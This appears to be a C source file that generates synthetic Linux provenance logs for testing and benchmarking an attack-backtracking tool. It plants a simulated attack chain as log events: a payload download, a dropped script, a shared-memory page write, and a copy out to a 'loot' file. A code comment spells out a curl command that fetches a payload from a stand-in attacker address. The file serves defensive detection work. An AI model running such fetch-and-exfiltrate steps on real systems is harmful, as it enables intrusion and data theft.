/*
 * gen.c - the synthetic log generator (API and contract: gen.h).
 *
 * A small discrete simulation of a Linux host writes records straight
 * through the log writer: a global clock advances by a random few
 * microseconds per event, and each step one runnable process (a daemon, a
 * login or cron shell, a short-lived command) does its next thing.  The
 * shapes are those backtracking meets on real hosts: an init-like root,
 * daemons (sshd, cron, syslog, web servers, three database processes that
 * share hot pages of mapped files, a shared-memory cache), shells forking
 * commands that exec a few dozen binaries, every process reading shared
 * libraries and configuration files with Zipf-like popularity (libraries,
 * configuration and data are never written: they stay leaves of a walk),
 * writing log files, creating, renaming, unlinking and reading temporary
 * files through their modified names (LOOKUP events), and talking to
 * remote endpoints.
 *
 * One attack chain is planted, made only of objects the background never
 * touches: endpoint 203.0.113.66:4444 -> (recv) a curl process -> (write)
 * /tmp/.x/payload.sh -> (exec) a process -> (page_write) page GEN_XPAGE of
 * /dev/shm/.x -> (page_read) another process -> (write) /var/tmp/.x/loot,
 * the detection point.  The cron daemon forks the three attack processes
 * separately, so the page is the only link from the reader to the rest of
 * the chain.  A background daemon (shmcached) writes other pages of
 * /dev/shm/.x, also between the page write and the page read: a walk at
 * page granularity must not reach it, one at object granularity must.
 *
 * What it does not do: it does not go through bt_ingest (it knows the
 * objects it makes), and it does not model exits (the log has no exit
 * record; pids are not reused below 4 M processes).
 *
 * Cost: objects are written once; all tables are allocated once at the
 * start; an event is a few PRNG draws and one bt_log_append_event().
 * The PRNG is splitmix64, so a seed gives the same log everywhere.
 *
 * bt_gen_jsonl() at the end turns a (generated) log back into the JSONL
 * observations `btrack import` reads, to exercise and measure the importer
 * at scale: `btrack gen --jsonl`, `make bench`.
 */
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../core/error.h"
#include "../core/util.h"
#include "gen.h"

/* ---- fixed parts of the simulated host -------------------------------- */

#define GEN_DEFAULT_START 1700000000000000000ull  /* 2023-11-14T22:13:20Z */
#define GEN_DEV 0x803ull                          /* "8:3" */
#define GEN_MAXPROC 160      /* runnable processes at once */
#define GEN_MAXSHELL 10
#define GEN_MAXCMD 120
#define GEN_RING 1024        /* recent temporary files others may read */
#define GEN_DBFILES 3
#define GEN_DBPAGES 1024
#define GEN_XPAGES 16        /* pages of /dev/shm/.x mapped by shmcached */
#define GEN_XPAGE 12         /* the attack's page of /dev/shm/.x */
#define GEN_XNOISE 6         /* shmcached writes pages [0, GEN_XNOISE) */
#define GEN_NLIBS 160
#define GEN_NENDP 256

#define ATTACK_ENTRY "203.0.113.66:4444"
#define ATTACK_PAYLOAD "/tmp/.x/payload.sh"
#define ATTACK_SHM "/dev/shm/.x"
#define ATTACK_LOOT "/var/tmp/.x/loot"
#define ATTACK_RECEIVED "/var/tmp/.x/received"  /* with recv_from */
#define GEN_ADDR 64          /* an address of a planted connection */

static const char *const bins[] = {
	"ls", "cat", "grep", "sed", "awk", "sort", "uniq", "head", "tail",
	"wc", "find", "xargs", "cp", "mv", "rm", "mkdir", "date", "stat",
	"du", "df", "ps", "tar", "gzip", "make", "cc", "as", "ld", "git",
	"python3", "perl", "ssh", "scp", "rsync", "wget", "vim", "less",
	"diff", "patch", "chmod", "id", "env", "sleep", "touch", "ln",
	"readlink", "tr", "cut", "tee",
};
#define GEN_NBINS (sizeof(bins) / sizeof(bins[0]))

static const char *const args[] = {
	"-l", "-r", "-q", "-v", "--help", "-n", "-a", "-f", "-x", "-c",
	"/srv/data", "/var/log", "/etc", "/tmp", ".", "HEAD",
};

static const char *const libnames[] = {
	"/etc/ld.so.cache",
	"/usr/lib/x86_64-linux-gnu/libc.so.6",
	"/usr/lib/x86_64-linux-gnu/libm.so.6",
	"/usr/lib/x86_64-linux-gnu/libtinfo.so.6",
	"/usr/lib/x86_64-linux-gnu/libselinux.so.1",
	"/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0",
	"/usr/lib/x86_64-linux-gnu/libz.so.1",
	"/usr/lib/x86_64-linux-gnu/libssl.so.3",
	"/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
	"/usr/lib/x86_64-linux-gnu/libsystemd.so.0",
	"/usr/lib/x86_64-linux-gnu/libacl.so.1",
	"/usr/lib/x86_64-linux-gnu/libattr.so.1",
};

static const char *const confnames[] = {
	"/etc/passwd", "/etc/group", "/etc/nsswitch.conf", "/etc/hosts",
	"/etc/resolv.conf", "/etc/localtime", "/etc/bash.bashrc",
	"/etc/crontab", "/etc/ssl/openssl.cnf", "/etc/ssh/sshd_config",
	"/etc/nginx/nginx.conf", "/etc/postgresql/postgresql.conf",
	"/etc/rsyslog.conf", "/etc/environment", "/etc/profile",
	"/etc/inputrc",
};

static const char *const lognames[] = {
	"/var/log/syslog", "/var/log/auth.log", "/var/log/nginx/access.log",
	"/var/log/nginx/error.log", "/var/log/postgresql/wal.log",
	"/var/log/cron.log", "/root/.bash_history",
	"/home/user/.bash_history",
};

/* Daemon roles. */
enum role {
	R_INIT, R_SSHD, R_CRON, R_SYSLOG, R_WEB, R_DB, R_SHMD,
	R_SHELL, R_CMD
};

static const struct {
	enum role role;
	const char *exe;
	uint32_t uid;
} daemons[] = {
	{ R_SSHD, "/usr/sbin/sshd", 0 },
	{ R_CRON, "/usr/sbin/cron", 0 },
	{ R_SYSLOG, "/usr/sbin/rsyslogd", 0 },
	{ R_WEB, "/usr/sbin/nginx", 33 },
	{ R_WEB, "/usr/sbin/nginx", 33 },
	{ R_DB, "/usr/lib/postgresql/15/bin/postgres", 108 },
	{ R_DB, "/usr/lib/postgresql/15/bin/postgres", 108 },
	{ R_DB, "/usr/lib/postgresql/15/bin/postgres", 108 },
	{ R_SHMD, "/usr/lib/shmcache/shmcached", 0 },
};
#define GEN_NDAEMONS (sizeof(daemons) / sizeof(daemons[0]))

/* Special files beyond the tables above, by index into g->special. */
enum {
	S_INIT, S_BASH, S_CURL, S_SHMSTAT, S_XSHM,
	S_DB0, S_DB1, S_DB2,
	S_DAEMON0,                      /* one per daemons[] row */
	S_COUNT = S_DAEMON0 + GEN_NDAEMONS
};

enum phase { PH_EXEC, PH_LIBS, PH_CONF, PH_BODY };

struct proc {
	uint32_t id, pid;
	uint8_t role, phase;
	uint16_t bin;
	uint32_t left;       /* steps left in this phase */
	uint32_t forks;      /* shells: commands left to start */
	uint32_t outlog;     /* file id this process appends to */
	uint32_t region;     /* its mapping (db: of shm 0; shmd: of .x) */
	uint32_t tmp_file, tmp_name;  /* an own temporary file, or 0 */
};

struct gen {
	struct bt_log_writer *w;
	uint64_t rng;
	uint64_t now;
	uint64_t events, target;
	uint32_t nobj;
	uint64_t next_ino;
	uint32_t next_pid, last_pid;
	uint32_t tmpseq;
	int err;

	/* Object id bases of the static file sets: id = base + index. */
	uint32_t lib0, conf0, data0, log0, bin0, endp0;
	uint32_t nconf, ndata;
	uint32_t special[S_COUNT];
	uint32_t pages[GEN_DBFILES + 1][GEN_DBPAGES];  /* last row: .x */

	struct proc procs[GEN_MAXPROC];
	uint32_t nproc, ndaemon, nshell, ncmd;
	uint32_t init_id, cron_id, cron_pid, shmd_slot;

	struct { uint32_t file, name; } ring[GEN_RING];
	uint32_t nring, ringpos;

	int stage;
	uint64_t plant[3];
	/* the planted connections (bt_gen_opts): remote and local
	 * addresses, "" for none */
	char send_to[2][GEN_ADDR], recv_from[2][GEN_ADDR];
};

/* ---- randomness ------------------------------------------------------- */

static inline uint64_t rnd(struct gen *g)
{
	uint64_t z = (g->rng += 0x9e3779b97f4a7c15ull);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
	return z ^ (z >> 31);
}

static inline uint32_t below(struct gen *g, uint32_t n)
{
	return (uint32_t)(((rnd(g) >> 32) * (uint64_t)n) >> 32);
}

/*
 * Zipf-like index in [0, n): a bit length drawn uniformly, then a value of
 * that length, so P(k) falls off about as 1/k.  Integer only and cheap.
 */
static inline uint32_t zipf(struct gen *g, uint32_t n)
{
	uint64_t r = rnd(g);
	unsigned nb = 64 - (unsigned)__builtin_clzll((uint64_t)n);
	unsigned b = (unsigned)((r & 0xffff) * nb >> 16);
	uint32_t k = (uint32_t)((1ull << b) - 1 + ((r >> 16) & ((1ull << b) - 1)));

	return k < n ? k : (uint32_t)((r >> 40) % n);
}

/* ---- records ---------------------------------------------------------- */

static inline void ev(struct gen *g, uint8_t op, uint8_t flags, uint32_t aux,
		      uint32_t cause, uint32_t effect)
{
	int r;

	g->now += 1 + (rnd(g) & 16383);
	r = bt_log_append_event(g->w, op, flags, aux, g->now, cause, effect);
	if (r && !g->err)
		g->err = r;
	g->events++;
}

/* An event at the current time (ties keep log order): a fork at the very
 * time its child starts. */
static inline void ev_now(struct gen *g, uint8_t op, uint32_t cause,
			  uint32_t effect)
{
	int r = bt_log_append_event(g->w, op, 0, 0, g->now, cause, effect);

	if (r && !g->err)
		g->err = r;
	g->events++;
}

static uint32_t label(struct gen *g, uint32_t obj, uint32_t key,
		      const char *s, size_t len)
{
	int r = bt_log_append_label(g->w, obj, key, g->now, s, len);

	if (r && !g->err)
		g->err = r;
	return obj;
}

static uint32_t mkfile(struct gen *g, const char *path)
{
	uint32_t id = ++g->nobj;
	int r = bt_log_append_file(g->w, id, 0, GEN_DEV, g->next_ino++);

	if (r && !g->err)
		g->err = r;
	return label(g, id, BT_LABEL_PATH, path, strlen(path));
}

static uint32_t mkname(struct gen *g, const char *path)
{
	uint32_t id = ++g->nobj;
	int r = bt_log_append_filename(g->w, id, path, strlen(path));

	if (r && !g->err)
		g->err = r;
	return id;
}

static uint32_t mkendpoint(struct gen *g, const char *addr)
{
	uint32_t id = ++g->nobj;
	int r = bt_log_append_endpoint(g->w, id, addr, strlen(addr));

	if (r && !g->err)
		g->err = r;
	return id;
}

static uint32_t mkregion(struct gen *g, uint32_t file, uint32_t proc,
			 uint32_t prot, uint64_t first, uint64_t count)
{
	uint32_t id = ++g->nobj;
	int r = bt_log_append_region(g->w, id, file, proc, prot, first, count);

	if (r && !g->err)
		g->err = r;
	return id;
}

/* The page object of (shared file row, index), made on first use. */
static uint32_t page(struct gen *g, unsigned row, uint32_t file,
		     uint32_t index)
{
	uint32_t *p = &g->pages[row][index];

	if (!*p) {
		int r;

		*p = ++g->nobj;
		r = bt_log_append_page(g->w, *p, file, index);
		if (r && !g->err)
			g->err = r;
	}
	return *p;
}

/* A shared mapping: region, then the object-level mmap events. */
static uint32_t map(struct gen *g, uint32_t file, uint32_t proc, bool write,
		    uint64_t first, uint64_t count)
{
	uint32_t prot = BT_PROT_READ | BT_PROT_SHARED |
			(write ? BT_PROT_WRITE : 0);
	uint32_t reg = mkregion(g, file, proc, prot, first, count);

	ev(g, BT_OP_MMAP_READ, BT_EVF_SHARED, reg, file, proc);
	if (write)
		ev(g, BT_OP_MMAP_WRITE, BT_EVF_SHARED, reg, proc, file);
	return reg;
}

/*
 * A new process object forked by `parent` (0: none), with its exe, argv
 * and comm labels, and the fork event.  exe is a path; argv0 is its
 * basename.
 */
static uint32_t spawn(struct gen *g, uint32_t parent, uint32_t ppid,
		      uint32_t uid, const char *exe, const char *arg)
{
	const char *base = strrchr(exe, '/');
	char argv[128];
	size_t n;
	uint32_t id = ++g->nobj;
	int r;

	base = base ? base + 1 : exe;
	g->now += 1 + (rnd(g) & 4095);
	g->last_pid = g->next_pid++;
	if (g->next_pid >= 4194304)
		g->next_pid = 300;
	r = bt_log_append_process(g->w, id, g->last_pid, g->now, ppid, uid);
	if (r && !g->err)
		g->err = r;
	if (parent)
		ev_now(g, BT_OP_FORK, parent, id);
	n = (size_t)snprintf(argv, sizeof(argv), "%s%c%s", base, 0,
			     arg ? arg : "");
	if (!arg)
		n = strlen(base);
	label(g, id, BT_LABEL_EXE, exe, strlen(exe));
	label(g, id, BT_LABEL_ARGV, argv, n < sizeof(argv) ? n : sizeof(argv) - 1);
	label(g, id, BT_LABEL_COMM, base, strlen(base) > 15 ? 15 : strlen(base));
	return id;
}

/* ---- the static world ------------------------------------------------- */

static void mkworld(struct gen *g)
{
	char path[128];
	uint32_t i;

	g->bin0 = g->nobj + 1;
	for (i = 0; i < GEN_NBINS; i++) {
		snprintf(path, sizeof(path), "/usr/bin/%s", bins[i]);
		mkfile(g, path);
	}
	g->lib0 = g->nobj + 1;
	for (i = 0; i < GEN_NLIBS; i++) {
		if (i < BT_ARRAY_SIZE(libnames))
			mkfile(g, libnames[i]);
		else {
			snprintf(path, sizeof(path),
				 "/usr/lib/x86_64-linux-gnu/libx%03u.so.%u", i,
				 i % 7);
			mkfile(g, path);
		}
	}
	g->conf0 = g->nobj + 1;
	for (i = 0; i < g->nconf; i++) {
		if (i < BT_ARRAY_SIZE(confnames))
			mkfile(g, confnames[i]);
		else {
			snprintf(path, sizeof(path), "/etc/app%02u/%u.conf",
				 i % 97, i);
			mkfile(g, path);
		}
	}
	g->data0 = g->nobj + 1;
	for (i = 0; i < g->ndata; i++) {
		snprintf(path, sizeof(path), "/srv/data/d%03u/f%07u.dat",
			 i % 251, i);
		mkfile(g, path);
	}
	g->log0 = g->nobj + 1;
	for (i = 0; i < 64; i++) {
		if (i < BT_ARRAY_SIZE(lognames))
			mkfile(g, lognames[i]);
		else {
			snprintf(path, sizeof(path), "/var/log/app%02u.log", i);
			mkfile(g, path);
		}
	}
	g->endp0 = g->nobj + 1;
	for (i = 0; i < GEN_NENDP; i++) {
		if (i & 1)
			snprintf(path, sizeof(path), "192.0.2.%u:%u", i / 2 + 1,
				 i % 3 ? 443 : 22);
		else
			snprintf(path, sizeof(path), "198.51.100.%u:%u",
				 i / 2 + 1, 40000 + i * 7);
		mkendpoint(g, path);
	}
	g->special[S_INIT] = mkfile(g, "/sbin/init");
	g->special[S_BASH] = mkfile(g, "/bin/bash");
	g->special[S_CURL] = mkfile(g, "/usr/bin/curl");
	g->special[S_SHMSTAT] = mkfile(g, "/usr/local/bin/shmstat");
	g->special[S_XSHM] = mkfile(g, ATTACK_SHM);
	for (i = 0; i < GEN_DBFILES; i++) {
		snprintf(path, sizeof(path), "/dev/shm/PostgreSQL.%u",
			 1000 + i * 17);
		g->special[S_DB0 + i] = mkfile(g, path);
	}
	for (i = 0; i < GEN_NDAEMONS; i++) {
		/* Two nginx and three postgres rows share a binary. */
		if (i && !strcmp(daemons[i].exe, daemons[i - 1].exe))
			g->special[S_DAEMON0 + i] = g->special[S_DAEMON0 + i - 1];
		else
			g->special[S_DAEMON0 + i] = mkfile(g, daemons[i].exe);
	}
}

/* Read a library the way the dynamic loader does: cache, libc, then
 * Zipf-popular others. */
static inline uint32_t lib(struct gen *g, unsigned i)
{
	if (i < 2)
		return g->lib0 + i;
	return g->lib0 + 2 + zipf(g, GEN_NLIBS - 2);
}

static struct proc *add(struct gen *g, uint32_t id, enum role role)
{
	struct proc *p = &g->procs[g->nproc++];

	memset(p, 0, sizeof(*p));
	p->id = id;
	p->pid = g->last_pid;
	p->role = (uint8_t)role;
	p->phase = PH_EXEC;
	p->left = 0;
	p->outlog = g->log0 + zipf(g, 64);
	return p;
}

static void boot(struct gen *g)
{
	uint32_t i, j;

	g->init_id = spawn(g, 0, 0, 0, "/sbin/init", NULL);
	ev(g, BT_OP_EXEC, 0, 0, g->special[S_INIT], g->init_id);
	ev(g, BT_OP_READ, 0, 0, g->lib0, g->init_id);
	ev(g, BT_OP_READ, 0, 0, g->lib0 + 1, g->init_id);
	ev(g, BT_OP_READ, 0, 0, g->lib0 + 9, g->init_id);
	for (i = 0; i < GEN_NDAEMONS; i++) {
		uint32_t id = spawn(g, g->init_id, 1, daemons[i].uid,
				    daemons[i].exe, NULL);
		struct proc *p = add(g, id, daemons[i].role);

		ev(g, BT_OP_EXEC, 0, 0, g->special[S_DAEMON0 + i], id);
		for (j = 0; j < 5; j++)
			ev(g, BT_OP_READ, 0, 0, lib(g, j), id);
		ev(g, BT_OP_READ, 0, 0, g->conf0 + below(g, 16), id);
		p->phase = PH_BODY;
		if (p->role == R_DB) {
			for (j = 0; j < GEN_DBFILES; j++)
				p->region = map(g, g->special[S_DB0 + j], id,
						true, 0, GEN_DBPAGES);
		} else if (p->role == R_SHMD) {
			p->region = map(g, g->special[S_XSHM], id, true, 0,
					GEN_XPAGES);
			g->shmd_slot = g->nproc - 1;
		}
		if (p->role == R_CRON) {
			g->cron_id = id;
			g->cron_pid = p->pid;
		}
		p->outlog = g->log0 + (p->role == R_SSHD ? 1 :
				       p->role == R_WEB ? 2 :
				       p->role == R_DB ? 4 :
				       p->role == R_CRON ? 5 : 0);
	}
	g->ndaemon = g->nproc;
}

/* ---- behaviour -------------------------------------------------------- */

static void fork_shell(struct gen *g, struct proc *parent, bool login)
{
	uint32_t id;
	struct proc *p;

	if (g->nproc >= GEN_MAXPROC || g->nshell >= GEN_MAXSHELL)
		return;
	id = spawn(g, parent->id, parent->pid, login ? 1000 : 0, "/bin/bash",
		   login ? "-l" : "-c");
	p = add(g, id, R_SHELL);
	p->forks = 3 + below(g, 40);
	p->outlog = g->log0 + (login ? 7 : 6);
	g->nshell++;
}

static void fork_cmd(struct gen *g, struct proc *sh)
{
	uint32_t id, bin = zipf(g, GEN_NBINS);
	struct proc *p;
	char exe[64];

	if (g->nproc >= GEN_MAXPROC || g->ncmd >= GEN_MAXCMD)
		return;
	snprintf(exe, sizeof(exe), "/usr/bin/%s", bins[bin]);
	id = spawn(g, sh->id, sh->pid, 1000, exe,
		   args[below(g, BT_ARRAY_SIZE(args))]);
	p = add(g, id, R_CMD);
	p->bin = (uint16_t)bin;
	sh->forks--;
	g->ncmd++;
}

static void publish(struct gen *g, uint32_t file, uint32_t name)
{
	g->ring[g->ringpos].file = file;
	g->ring[g->ringpos].name = name;
	g->ringpos = (g->ringpos + 1) % GEN_RING;
	if (g->nring < GEN_RING)
		g->nring++;
}

static void retire(struct gen *g, uint32_t slot)
{
	struct proc *p = &g->procs[slot];

	if (p->role == R_SHELL)
		g->nshell--;
	else
		g->ncmd--;
	if (p->tmp_file)
		publish(g, p->tmp_file, p->tmp_name);
	*p = g->procs[--g->nproc];
}

/* Startup common to shells and commands: exec, libraries, configuration.
 * Returns true once the process is in its body. */
static bool startup(struct gen *g, struct proc *p)
{
	switch (p->phase) {
	case PH_EXEC:
		/* exec, then the loader's cache and libc */
		ev(g, BT_OP_EXEC, 0, 0, p->role == R_SHELL ?
		   g->special[S_BASH] : g->bin0 + p->bin, p->id);
		ev(g, BT_OP_READ, 0, 0, g->lib0, p->id);
		ev(g, BT_OP_READ, 0, 0, g->lib0 + 1, p->id);
		p->phase = PH_LIBS;
		p->left = 1 + zipf(g, 8);
		return false;
	case PH_LIBS:
		ev(g, BT_OP_READ, 0, 0, lib(g, 2), p->id);
		if (!--p->left) {
			p->phase = PH_CONF;
			p->left = 1 + below(g, 4);
		}
		return false;
	case PH_CONF:
		ev(g, BT_OP_READ, 0, 0, g->conf0 + zipf(g, g->nconf), p->id);
		if (!--p->left) {
			p->phase = PH_BODY;
			p->left = 4 + below(g, 56);
		}
		return false;
	default:
		return true;
	}
}

static void cmd_step(struct gen *g, uint32_t slot)
{
	struct proc *p = &g->procs[slot];
	char path[64];
	uint32_t r, k;

	if (!startup(g, p))
		return;
	r = below(g, 100);
	if (r < 48) {
		ev(g, BT_OP_READ, 0, 4096, g->data0 + zipf(g, g->ndata), p->id);
	} else if (r < 58) {
		ev(g, BT_OP_READ, 0, 0, lib(g, 2), p->id);
	} else if (r < 74) {
		ev(g, BT_OP_WRITE, 0, 80 + below(g, 200), p->id, p->outlog);
	} else if (r < 82 && g->nring) {
		k = below(g, g->nring);
		ev(g, BT_OP_LOOKUP, 0, 0, g->ring[k].name, p->id);
		ev(g, BT_OP_READ, 0, 512, g->ring[k].file, p->id);
	} else if (r < 86 && !p->tmp_file) {
		snprintf(path, sizeof(path), "/tmp/tmp.%08x", g->tmpseq++);
		p->tmp_file = mkfile(g, path);
		p->tmp_name = mkname(g, path);
		ev(g, BT_OP_CREATE, 0, 0, p->id, p->tmp_name);
		ev(g, BT_OP_WRITE, 0, 1024, p->id, p->tmp_file);
	} else if (r < 89 && p->tmp_file) {
		uint32_t nn;

		snprintf(path, sizeof(path), "/var/cache/out/r%07u.out",
			 g->tmpseq++);
		nn = mkname(g, path);
		label(g, p->tmp_file, BT_LABEL_PATH, path, strlen(path));
		ev(g, BT_OP_RENAME, 0, 0, p->id, p->tmp_name);
		ev(g, BT_OP_RENAME, 0, 0, p->id, nn);
		p->tmp_name = nn;
		publish(g, p->tmp_file, nn);
		p->tmp_file = p->tmp_name = 0;
	} else if (r < 91 && p->tmp_file) {
		ev(g, BT_OP_UNLINK, 0, 0, p->id, p->tmp_name);
		p->tmp_file = p->tmp_name = 0;
	} else if (r < 96) {
		k = g->endp0 + zipf(g, GEN_NENDP);
		ev(g, BT_OP_SEND, 0, 200, p->id, k);
		ev(g, BT_OP_RECV, 0, 1400, k, p->id);
	} else if (p->tmp_file) {
		ev(g, BT_OP_WRITE, 0, 4096, p->id, p->tmp_file);
	} else {
		ev(g, BT_OP_READ, 0, 0, g->conf0 + zipf(g, g->nconf), p->id);
	}
	if (!--p->left)
		retire(g, slot);
}

static void shell_step(struct gen *g, uint32_t slot)
{
	struct proc *p = &g->procs[slot];
	uint32_t r;

	if (!startup(g, p))
		return;
	r = below(g, 100);
	if (r < 40 && p->forks && g->ncmd < GEN_MAXCMD) {
		fork_cmd(g, p);
	} else if (r < 70) {
		ev(g, BT_OP_READ, 0, 0, g->conf0 + zipf(g, g->nconf), p->id);
	} else {
		ev(g, BT_OP_WRITE, 0, 40, p->id, p->outlog);
		if (!p->forks)
			retire(g, slot);
	}
}

static void daemon_step(struct gen *g, uint32_t slot)
{
	struct proc *p = &g->procs[slot];
	uint32_t r = below(g, 100), k, f;

	switch (p->role) {
	case R_SSHD:
	case R_WEB:
		if (r < 30) {
			ev(g, BT_OP_RECV, 0, 512,
			   g->endp0 + zipf(g, GEN_NENDP), p->id);
		} else if (r < 55) {
			ev(g, BT_OP_READ, 0, 8192,
			   p->role == R_WEB ? g->data0 + zipf(g, g->ndata) :
			   g->conf0 + zipf(g, g->nconf), p->id);
		} else if (r < 75) {
			ev(g, BT_OP_SEND, 0, 1400, p->id,
			   g->endp0 + zipf(g, GEN_NENDP));
		} else if (r < 97 || p->role == R_WEB) {
			ev(g, BT_OP_WRITE, 0, 120, p->id, p->outlog);
		} else {
			fork_shell(g, p, true);
		}
		break;
	case R_CRON:
		/* crontab now and then; mostly its log */
		if (r < 8)
			ev(g, BT_OP_READ, 0, 0, g->conf0 + 7, p->id);
		else if (r < 85)
			ev(g, BT_OP_WRITE, 0, 60, p->id, p->outlog);
		else
			fork_shell(g, p, false);
		break;
	case R_SYSLOG:
		if (r < 85)
			ev(g, BT_OP_WRITE, 0, 100, p->id,
			   g->log0 + zipf(g, 64));
		else
			ev(g, BT_OP_READ, 0, 0, g->conf0 + 12, p->id);
		break;
	case R_DB:
		f = below(g, GEN_DBFILES);
		k = zipf(g, GEN_DBPAGES);
		if (r < 45) {
			ev(g, BT_OP_PAGE_READ, 0, p->region - (GEN_DBFILES - 1 - f),
			   page(g, f, g->special[S_DB0 + f], k), p->id);
		} else if (r < 80) {
			ev(g, BT_OP_PAGE_WRITE, 0,
			   p->region - (GEN_DBFILES - 1 - f), p->id,
			   page(g, f, g->special[S_DB0 + f], k));
		} else if (r < 90) {
			ev(g, BT_OP_WRITE, 0, 8192, p->id, p->outlog);
		} else {
			ev(g, BT_OP_RECV, 0, 300,
			   g->endp0 + zipf(g, GEN_NENDP), p->id);
		}
		break;
	case R_SHMD:
		if (r < 50) {
			k = below(g, GEN_XNOISE);
			ev(g, BT_OP_PAGE_WRITE, 0, p->region, p->id,
			   page(g, GEN_DBFILES, g->special[S_XSHM], k));
		} else {
			k = below(g, GEN_XPAGES - 1);
			if (k >= GEN_XPAGE)
				k++;    /* never the attack's page */
			ev(g, BT_OP_PAGE_READ, 0, p->region,
			   page(g, GEN_DBFILES, g->special[S_XSHM], k), p->id);
		}
		break;
	default:
		break;
	}
}

static void step(struct gen *g)
{
	uint32_t slot;

	/* A quarter of the steps go to daemons, the rest to shells and
	 * commands (when there are any). */
	if (g->nproc == g->ndaemon || below(g, 4) == 0) {
		slot = below(g, g->ndaemon);
		daemon_step(g, slot);
		return;
	}
	slot = g->ndaemon + below(g, g->nproc - g->ndaemon);
	if (g->procs[slot].role == R_SHELL)
		shell_step(g, slot);
	else
		cmd_step(g, slot);
}

/* ---- the planted attack ----------------------------------------------- */

struct attack {
	uint32_t endpoint, payload, payload_name, p2;
};

static void attack_stage(struct gen *g, struct attack *a)
{
	struct proc *shmd = &g->procs[g->shmd_slot];
	uint32_t p, reg, pg, name, loot, i;

	switch (g->stage) {
	case 0:
		/* cron runs "curl -s http://203.0.113.66:4444/p -o ..." */
		p = spawn(g, g->cron_id, g->cron_pid, 0, "/usr/bin/curl",
			  "-so/tmp/.x/payload.sh");
		ev(g, BT_OP_EXEC, 0, 0, g->special[S_CURL], p);
		for (i = 0; i < 2; i++)
			ev(g, BT_OP_READ, 0, 0, g->lib0 + i, p);
		ev(g, BT_OP_READ, 0, 0, g->lib0 + 7, p);   /* libssl */
		ev(g, BT_OP_READ, 0, 0, g->lib0 + 8, p);   /* libcrypto */
		ev(g, BT_OP_READ, 0, 0, g->conf0 + 4, p);  /* resolv.conf */
		if (g->recv_from[0][0]) {
			/* from the other host: one end of one connection */
			a->endpoint = mkendpoint(g, g->recv_from[0]);
			label(g, a->endpoint, BT_LABEL_LOCAL, g->recv_from[1],
			      strlen(g->recv_from[1]));
			ev(g, BT_OP_ACCEPT, 0, 0, a->endpoint, p);
		} else {
			a->endpoint = mkendpoint(g, ATTACK_ENTRY);
			ev(g, BT_OP_CONNECT, 0, 0, a->endpoint, p);
			ev(g, BT_OP_SEND, 0, 96, p, a->endpoint);
		}
		ev(g, BT_OP_RECV, 0, 4096, a->endpoint, p);
		ev(g, BT_OP_RECV, 0, 1733, a->endpoint, p);
		a->payload = mkfile(g, ATTACK_PAYLOAD);
		a->payload_name = mkname(g, ATTACK_PAYLOAD);
		ev(g, BT_OP_CREATE, 0, 0, p, a->payload_name);
		ev(g, BT_OP_WRITE, 0, 4096, p, a->payload);
		ev(g, BT_OP_WRITE, 0, 1733, p, a->payload);
		break;
	case 1:
		/* cron runs the dropped script; it writes a page of the
		 * shared cache's file that the cache itself never uses */
		p = spawn(g, g->cron_id, g->cron_pid, 0, ATTACK_PAYLOAD, NULL);
		ev(g, BT_OP_LOOKUP, 0, 0, a->payload_name, p);
		ev(g, BT_OP_EXEC, 0, 0, a->payload, p);
		ev(g, BT_OP_READ, 0, 0, g->lib0, p);
		ev(g, BT_OP_READ, 0, 0, g->lib0 + 1, p);
		reg = map(g, g->special[S_XSHM], p, true, GEN_XPAGE, 1);
		pg = page(g, GEN_DBFILES, g->special[S_XSHM], GEN_XPAGE);
		ev(g, BT_OP_PAGE_WRITE, 0, reg, p, pg);
		ev(g, BT_OP_PAGE_WRITE, 0, reg, p, pg);
		a->p2 = p;
		/* the noise: shmcached writes another page of the file
		 * after the attack's write and before the read */
		ev(g, BT_OP_PAGE_WRITE, 0, shmd->region, shmd->id,
		   page(g, GEN_DBFILES, g->special[S_XSHM], 1));
		break;
	case 2:
		/* a separate cron job maps the file and copies the page out */
		p = spawn(g, g->cron_id, g->cron_pid, 0, "/usr/local/bin/shmstat", "-x");
		ev(g, BT_OP_EXEC, 0, 0, g->special[S_SHMSTAT], p);
		ev(g, BT_OP_READ, 0, 0, g->lib0, p);
		ev(g, BT_OP_READ, 0, 0, g->lib0 + 1, p);
		reg = map(g, g->special[S_XSHM], p, false, GEN_XPAGE, 1);
		pg = page(g, GEN_DBFILES, g->special[S_XSHM], GEN_XPAGE);
		ev(g, BT_OP_PAGE_READ, 0, reg, pg, p);
		loot = mkfile(g, g->recv_from[0][0] ? ATTACK_RECEIVED :
			      ATTACK_LOOT);
		name = mkname(g, g->recv_from[0][0] ? ATTACK_RECEIVED :
			      ATTACK_LOOT);
		ev(g, BT_OP_CREATE, 0, 0, p, name);
		ev(g, BT_OP_WRITE, 0, 4096, p, loot);
		if (g->send_to[0][0]) {
			/* and sends it to the other host */
			uint32_t e = mkendpoint(g, g->send_to[0]);

			label(g, e, BT_LABEL_LOCAL, g->send_to[1],
			      strlen(g->send_to[1]));
			ev(g, BT_OP_CONNECT, 0, 0, e, p);
			ev(g, BT_OP_SEND, 0, 4096, p, e);
		}
		break;
	}
	g->stage++;
}

/* ---- entry ------------------------------------------------------------ */

/* "REMOTE,LOCAL" into two addresses; NULL: none. */
static int link_addrs(const char *spec, const char *what,
		      char out[2][GEN_ADDR])
{
	const char *comma;
	size_t a, b;

	out[0][0] = out[1][0] = '\0';
	if (!spec)
		return 0;
	comma = strchr(spec, ',');
	a = comma ? (size_t)(comma - spec) : 0;
	b = comma ? strlen(comma + 1) : 0;
	if (!comma || !a || !b || a >= GEN_ADDR || b >= GEN_ADDR ||
	    strchr(comma + 1, ','))
		return bt_error_set(BT_EINVAL, "%s wants REMOTE,LOCAL "
				    "(two addresses of at most %d bytes), not "
				    "'%s'", what, GEN_ADDR - 1, spec);
	memcpy(out[0], spec, a);
	out[0][a] = '\0';
	memcpy(out[1], comma + 1, b + 1);
	return 0;
}

/* Say where the log came from (`btrack log info` shows notes). */
static void note_source(struct gen *g, const struct bt_gen_opts *o)
{
	char note[96];
	int len = snprintf(note, sizeof(note), "gen events=%llu seed=%llu",
			   (unsigned long long)o->events,
			   (unsigned long long)o->seed);
	int r = bt_log_append_note(g->w, BT_NOTE_SOURCE, g->now, note,
				   (size_t)len);

	if (r)
		g->err = r;
}

int bt_gen(struct bt_log_writer *w, const struct bt_gen_opts *o,
	   struct bt_gen_info *out)
